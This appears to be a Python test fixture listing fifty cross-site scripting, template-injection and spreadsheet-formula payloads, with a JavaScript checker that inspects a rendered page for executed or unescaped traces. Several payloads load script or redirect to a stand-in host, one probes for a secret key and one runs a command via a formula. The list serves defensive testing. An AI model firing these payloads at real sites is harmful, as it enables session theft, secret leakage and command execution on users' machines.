"""Fifty texts that would do harm if any page took them for more than text."""

# Each that can run says so: by a dialog, or by setting __ran on the window.
PAYLOADS = (
    # Elements
    "<script>__ran=1</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>__ran=1</scr</script>ipt>",
    "<svg/onload=__ran=1>",
    "<svg><script>__ran=1</script></svg>",
    "<svg><animate onbegin=__ran=1 attributeName=x dur=1s>",
    "<img src=x onerror=__ran=1>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="__ran=1">',
    "<body onload=__ran=1>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    '<iframe srcdoc="<script>parent.__ran=1</script>">',
    "<object data=javascript:__ran=1></object>",
    "<embed src=javascript:__ran=1>",
    "<details open ontoggle=__ran=1>",
    "<video><source onerror=__ran=1></video>",
    "<input autofocus onfocus=__ran=1>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go",
    "<math><mtext><img src=x onerror=__ran=1></mtext></math>",
    "<x-y style=animation-name:x onanimationstart=__ran=1>",
    "<a href=javascript:__ran=1>press</a>",
    # Out of where a text is put
    '" autofocus onfocus=__ran=1 x="',
    "' autofocus onfocus=__ran=1 x='",
    "x autofocus onfocus=__ran=1",
    '"><script>__ran=1</script>',
    "'><script>__ran=1</script>",
    "`><img src=x onerror=__ran=1>",
    "</title><script>__ran=1</script>",
    "</textarea><script>__ran=1</script>",
    "</select><img src=x onerror=__ran=1>",
    "</option></select><svg onload=__ran=1>",
    "--><script>__ran=1</script><!--",
    "]]><script>__ran=1</script>",
    "javascript:__ran=1//",
    "';__ran=1;//",
    "</script><script>__ran=1</script>",
    # Templates
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "{{config.SECRET_KEY}}",
    "%(name)s {0.__class__} %n",
    # Entities and letters that are not what they seem
    "&lt;script&gt;__ran=1&lt;/script&gt;",
    "&#x3c;img src=x onerror=__ran=1&#x3e;",
    "\uff1cscript\uff1e__ran=1\uff1c/script\uff1e",
    "\u202e<b>gnp.exe</b>\u202c\u200d\u0301",
    # Formulas
    '=HYPERLINK("//evil.example","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# The same for the few letters of a code.
SHORT = ("<b>", '"><', "'><", "=1+1", "@A1", "+1", "-1", "{{7}}", "&lt;", "<i>x")
# What any of them would leave in a page that took it for more than text; and which of the given
# texts do not stand on the page letter by letter.
TRACES = """texts => {
  const STRANGE = "iframe, object, embed, base, style, math, video, x-y, svg:not(.report-bar), img"
    + ", script:not([src^='/static/']), meta[http-equiv], link:not([href^='/static/'])";
  const found = [];
  for (const one of document.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      const leads = ["href", "src", "action"].includes(name) && /^\\s*javascript:/i.test(value);
      if (leads || name.startsWith("on")) found.push(`${one.tagName} ${name}`);
    }
  }
  for (const one of document.querySelectorAll(STRANGE)) found.push(one.outerHTML);
  if (window.__ran) found.push("it ran");
  const even = text => text.replace(/\\s+/g, " ").trim();
  const fields = [...document.querySelectorAll("input, textarea")].map(field => field.value);
  const page = even([document.body.textContent, ...fields].join(" "));
  const unseen = texts.filter(text => !page.includes(even(text))).map(text => `${text} is not there`);
  return [...found, ...window.__csp, ...unseen];
}"""
LISTEN = """window.__csp = [];
addEventListener("securitypolicyviolation", e => __csp.push(`${e.violatedDirective} ${e.blockedURI}`));"""
